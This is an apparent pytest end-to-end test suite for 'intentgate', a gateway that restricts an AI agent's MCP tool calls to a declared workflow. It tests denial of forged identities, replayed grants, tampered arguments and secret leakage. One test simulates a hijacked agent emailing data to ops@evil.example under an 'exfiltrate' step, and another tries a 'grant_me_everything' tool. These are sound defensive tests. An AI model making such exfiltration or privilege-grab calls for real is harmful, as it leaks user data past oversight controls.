"""End to end over stdio: a real MCP client -> `intentgate stdio` subprocess -> real upstream
tool servers as stdio subprocesses (which verify every action token themselves)."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import sys
from pathlib import Path

import pytest
import yaml
from mcp import Client, StdioServerParameters
from mcp.client.stdio import stdio_client

from intentgate.identity import DevIssuer
from intentgate.keys import KeySet
from tests.conftest import INTENTS_DIR, POLICY_DIR, ROOT
from tests.tasks import ISSUERS_CONFIG, grant_args

pytestmark = pytest.mark.slow

SERVER = ROOT / "tests" / "servers" / "tool_server.py"
SUPPORT = "spiffe://example.org/agent/support-1"
PARAMS = {"ticket_id": "TCK-1", "order_id": "ORD-7"}


def make_gateway(
    tmp_path: Path, agent: str = SUPPORT, token: str | None = None, intents_dir: Path = INTENTS_DIR,
    upstream_timeout: float = 10, upstream_env: dict[str, str] | None = None, gateway_env: dict[str, str] | None = None,
) -> StdioServerParameters:
    keys = KeySet.open_or_create(tmp_path / "keys" / "action")
    jwks = tmp_path / "jwks.json"
    jwks.write_text(json.dumps(keys.jwks()))
    upstreams = [
        {"name": n, "command": sys.executable, "args": [str(SERVER), "--name", n],
         "env": {"INTENTGATE_JWKS": str(jwks), **(upstream_env or {})}, "timeout_seconds": upstream_timeout}
        for n in ("tickets", "orders", "payments", "email")
    ]
    cfg = tmp_path / "intentgate.yaml"
    cfg.write_text(yaml.safe_dump({
        "intents_dir": str(intents_dir), "policy_dir": str(POLICY_DIR), "data_dir": str(tmp_path),
        "upstreams": upstreams, "tasks": ISSUERS_CONFIG,
    }))
    if token is None:
        token = DevIssuer(KeySet.open_or_create(tmp_path / "keys" / "agent-issuer")).mint(agent)
    return StdioServerParameters(
        command=sys.executable, args=["-m", "intentgate", "stdio", "--config", str(cfg)], cwd=str(ROOT),
        env={**os.environ, "INTENTGATE_AGENT_TOKEN": token, **(gateway_env or {})},
    )


def decisions(tmp_path: Path) -> list[tuple[str, str, list[str]]]:
    db = sqlite3.connect(tmp_path / "intentgate.db")
    rows = db.execute("SELECT tool, outcome, reasons FROM decisions WHERE kind='tools/call' ORDER BY seq").fetchall()
    db.close()
    return [(t, o, json.loads(r)) for t, o, r in rows]


async def begin(client: Client, data_dir: Path, params: dict | None = None) -> str:
    """The refund task, from a task grant the host hands the agent (refund-order is issuer-begun)."""
    r = await client.call_tool(
        "intentgate__begin_task", grant_args(data_dir, SUPPORT, "refund-order", params or PARAMS, "customer asked")
    )
    assert not r.is_error, r.content
    return r.structured_content["task"]


@pytest.mark.parametrize("mode", ["auto", "legacy"])
async def test_conformant_workflow_over_stdio(tmp_path: Path, mode: str) -> None:
    async with Client(make_gateway(tmp_path), mode=mode) as client:
        names = {t.name: t for t in (await client.list_tools()).tools}
        assert {"intentgate__begin_task", "tickets__get_ticket", "payments__refund", "email__send"} <= set(names)
        assert "intent_task" in names["payments__refund"].input_schema["properties"]
        assert "crash" not in " ".join(names)  # tools no intent uses are not listed
        task = await begin(client, tmp_path)

        def meta(step: str) -> dict:
            return {"intentgate/task": task, "intentgate/step": step}

        r = await client.call_tool(
            "tickets__get_ticket", {"ticket_id": "TCK-1"}, meta={**meta("read_ticket"), "agent/private": "x"}
        )
        assert not r.is_error
        echo = r.structured_content
        assert echo["arguments"] == {"ticket_id": "TCK-1"}
        assert echo["verified_jti"]  # the tool server verified and burnt the gateway's token
        # nothing of the agent's _meta goes upstream: only the token (and the gateway's own
        # session keys on 2026-07-28 connections)
        forwarded = {k for k in echo["meta_keys"] if not k.startswith("io.modelcontextprotocol/")}
        assert forwarded == {"intentgate/token"}
        # the LLM-style form: task and step as arguments, stripped before forwarding
        r = await client.call_tool(
            "orders__get_order", {"order_id": "ORD-7", "intent_task": task, "intent_step": "lookup"}
        )
        assert not r.is_error and r.structured_content["arguments"] == {"order_id": "ORD-7"}
        r = await client.call_tool(
            "payments__refund", {"order_id": "ORD-7", "amount": 30, "currency": "EUR"}, meta=meta("refund")
        )
        assert not r.is_error and r.structured_content["verified_jti"]
        r = await client.call_tool(
            "tickets__add_comment", {"ticket_id": "TCK-1", "body": "refunded"}, meta=meta("comment")
        )
        assert not r.is_error
    assert [o for _, o, _ in decisions(tmp_path)] == ["allow"] * 4


async def test_denials_carry_decision_and_reasons(tmp_path: Path) -> None:
    async with Client(make_gateway(tmp_path)) as client:
        task = await begin(client, tmp_path)
        r = await client.call_tool(
            "payments__refund", {"order_id": "ORD-7", "amount": 30, "currency": "EUR"},
            meta={"intentgate/task": task, "intentgate/step": "refund"},
        )
        assert r.is_error
        sc = r.structured_content
        assert sc["outcome"] == "deny" and "step_out_of_order:refund" in sc["reasons"]
        assert sc["decision_id"].startswith("dec_") and sc["allowed_next"] == ["read_ticket"]
        assert "not allowed at this point" in r.content[0].text
        # off-workflow tool the hijacked agent wants
        r = await client.call_tool(
            "email__send", {"to": "ops@evil.example", "subject": "x", "body": "y"},
            meta={"intentgate/task": task, "intentgate/step": "exfiltrate"},
        )
        assert r.is_error and r.structured_content["reasons"] == ["unknown_step:exfiltrate"]
        # no task context at all
        r = await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"})
        assert r.is_error and r.structured_content["reasons"] == ["missing_task_context"]
        # a tool that no upstream has
        r = await client.call_tool("nowhere__thing", {}, meta={"intentgate/task": task, "intentgate/step": "x"})
        assert r.is_error and r.structured_content["reasons"] == ["unknown_tool:nowhere__thing"]
        r = await client.call_tool("intentgate__grant_me_everything", {})
        assert r.is_error and r.structured_content["reasons"] == ["unknown_tool:intentgate__grant_me_everything"]
        # tampered binding
        await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"},
                               meta={"intentgate/task": task, "intentgate/step": "read_ticket"})
        r = await client.call_tool("orders__get_order", {"order_id": "ORD-999"},
                                   meta={"intentgate/task": task, "intentgate/step": "lookup"})
        assert r.is_error and r.structured_content["reasons"] == ["binding_mismatch:order_id"]
        # ending the task
        r = await client.call_tool("intentgate__end_task", {"task": task})
        assert not r.is_error and r.structured_content["status"] == "ended"
        r = await client.call_tool("orders__get_order", {"order_id": "ORD-7"},
                                   meta={"intentgate/task": task, "intentgate/step": "lookup"})
        assert r.is_error and r.structured_content["reasons"] == ["task_ended:ended"]
    recorded = decisions(tmp_path)
    assert [o for _, o, _ in recorded].count("deny") == 7
    assert ("nowhere.thing", "deny", ["unknown_tool:nowhere__thing"]) in recorded


async def test_list_intents_and_begin_task_errors(tmp_path: Path) -> None:
    async with Client(make_gateway(tmp_path)) as client:
        # resources and prompts of the upstreams the agent uses, namespaced (see test_front_passthrough)
        assert "tickets+tickets://TCK-1" in {r.uri for r in (await client.list_resources()).resources}
        assert [p.name for p in (await client.list_prompts()).prompts] == ["tickets__summarise_ticket"]
        r = await client.call_tool("intentgate__list_intents", {})
        names = [i["name"] for i in r.structured_content["intents"]]
        assert names and "rotate-credential" not in names and "refund-order" in names
        assert {i["name"]: i["begin"] for i in r.structured_content["intents"]}["refund-order"] == ["issuer"]
        r = await client.call_tool(
            "intentgate__begin_task", {"intent": "rotate-credential", "params": {}, "reason": "x"}
        )
        assert r.is_error and r.structured_content["reasons"] == ["agent_not_permitted"]
        assert r.structured_content["decision_id"].startswith("dec_")
        r = await client.call_tool(  # an intent only a task issuer may begin
            "intentgate__begin_task", {"intent": "refund-order", "params": PARAMS, "reason": "x"}
        )
        assert r.is_error and r.structured_content["reasons"] == ["task_issuer_required"]
        assert r.structured_content["decision_id"].startswith("dec_")


async def test_no_identity_no_tools(tmp_path: Path) -> None:
    params = make_gateway(tmp_path, token="not-a-jwt")
    with pytest.raises(Exception):  # noqa: B017 - the gateway refuses to start the session at all
        async with Client(params) as client:
            await client.list_tools()


async def test_forged_identity_is_refused(tmp_path: Path) -> None:
    forger = DevIssuer(KeySet.open_or_create(tmp_path / "elsewhere"))
    params = make_gateway(tmp_path, token=forger.mint(SUPPORT))
    with pytest.raises(Exception):  # noqa: B017
        async with Client(params) as client:
            await client.list_tools()


FAULTS_INTENT = """
name: faults
version: "1"
agents: ["spiffe://example.org/agent/support-*"]
begin: [agent]
start: [crash, hang, read]
steps:
  crash: {tool: tickets.crash, next: [read]}
  hang: {tool: tickets.hang, next: [read]}
  read:
    tool: tickets.get_ticket
    arguments: {ticket_id: {type: string}}
"""


async def test_upstream_crash_and_hang_fail_clearly_and_recover(tmp_path: Path) -> None:
    intents = tmp_path / "intents"
    intents.mkdir()
    (intents / "faults.yaml").write_text(FAULTS_INTENT)
    params = make_gateway(tmp_path, intents_dir=intents, upstream_timeout=3)

    async def begin_faults(client: Client) -> str:
        r = await client.call_tool("intentgate__begin_task", {"intent": "faults", "params": {}, "reason": "chaos"})
        return r.structured_content["task"]

    async with Client(params) as client:
        task = await begin_faults(client)
        r = await client.call_tool("tickets__crash", {}, meta={"intentgate/task": task, "intentgate/step": "crash"})
        assert r.is_error and r.structured_content["reasons"] == ["upstream_error"]
        assert r.structured_content["decision_id"].startswith("dec_")
        # the crashed upstream is restarted on next use
        r = await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"},
                                   meta={"intentgate/task": task, "intentgate/step": "read"})
        assert not r.is_error and r.structured_content["verified_jti"]

        task = await begin_faults(client)
        r = await client.call_tool("tickets__hang", {}, meta={"intentgate/task": task, "intentgate/step": "hang"})
        assert r.is_error and r.structured_content["reasons"] == ["upstream_timeout"]
        r = await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-2"},
                                   meta={"intentgate/task": task, "intentgate/step": "read"})
        assert not r.is_error
    db = sqlite3.connect(tmp_path / "intentgate.db")
    outcomes = dict(db.execute("SELECT status, count(*) FROM call_outcomes GROUP BY status").fetchall())
    db.close()
    assert outcomes == {"upstream_error": 1, "timeout": 1, "ok": 2}


async def test_brokered_secret_reaches_upstream_and_nothing_else(tmp_path: Path) -> None:
    secret = "brokered-s3cret-7f1c9e"
    params = make_gateway(
        tmp_path, upstream_env={"BROKERED_SECRET": "${IG_TEST_BROKERED}"},
        gateway_env={"IG_TEST_BROKERED": secret, "INTENTGATE_LOG_LEVEL": "INFO"},
    )
    errlog = tmp_path / "gateway-stderr.log"
    with errlog.open("w") as err:
        async with Client(stdio_client(params, errlog=err)) as client:
            tools = (await client.list_tools()).tools
            task = await begin(client, tmp_path)
            r = await client.call_tool("tickets__get_ticket", {"ticket_id": "TCK-1"},
                                       meta={"intentgate/task": task, "intentgate/step": "read_ticket"})
            denied = await client.call_tool("orders__get_order", {"order_id": "ORD-7"},
                                            meta={"intentgate/task": task, "intentgate/step": "refund"})
    assert r.structured_content["brokered_secret_sha256"] == hashlib.sha256(secret.encode()).hexdigest()
    seen_by_agent = json.dumps([t.model_dump(mode="json") for t in tools]) + r.model_dump_json() + denied.model_dump_json()
    assert secret not in seen_by_agent
    assert secret.encode() not in (tmp_path / "intentgate.db").read_bytes()
    for wal in tmp_path.glob("intentgate.db-*"):
        assert secret.encode() not in wal.read_bytes()
    logged = errlog.read_text()
    assert "upstream tickets started" in logged  # the log was captured
    assert secret not in logged


async def test_task_grants_over_stdio(tmp_path: Path) -> None:
    """A host starts the agent over stdio and hands it a task grant: the agent begins exactly that
    task, once; a grant from another key, or for another agent, is refused and recorded."""
    from intentgate.tasks import TaskGrantMinter

    forged = TaskGrantMinter(KeySet.open_or_create(tmp_path / "not-the-gateways")).mint(
        agent=SUPPORT, intent="refund-order", params=PARAMS, reason="x")[0]
    async with Client(make_gateway(tmp_path)) as client:
        grant = grant_args(tmp_path, SUPPORT, "refund-order", PARAMS, "assigned")
        first = await client.call_tool("intentgate__begin_task", grant)
        again = await client.call_tool("intentgate__begin_task", grant)
        other_key = await client.call_tool("intentgate__begin_task", {"grant": forged})
        other_agent = await client.call_tool(
            "intentgate__begin_task", grant_args(tmp_path, "spiffe://example.org/agent/support-2", "refund-order",
                                                 PARAMS))
    assert not first.is_error and first.structured_content["intent"] == "refund-order"
    refusals = {"again": again, "other key": other_key, "other agent": other_agent}
    assert {k: r.structured_content["reasons"] for k, r in refusals.items()} == {
        "again": ["task_grant_replayed"], "other key": ["invalid_task_grant"], "other agent": ["task_grant_agent"]}
    db = sqlite3.connect(tmp_path / "intentgate.db")
    begins = db.execute("SELECT outcome, reasons FROM decisions WHERE kind = 'task/begin' ORDER BY seq").fetchall()
    tasks = db.execute("SELECT id, agent, issuer FROM tasks").fetchall()
    db.close()
    assert [(o, json.loads(r)) for o, r in begins] == [
        ("allow", []), ("deny", ["task_grant_replayed"]), ("deny", ["invalid_task_grant"]),
        ("deny", ["task_grant_agent"])]
    assert tasks == [(first.structured_content["task"], SUPPORT, "local:intentgate-local:spiffe://example.org/orchestrator")]
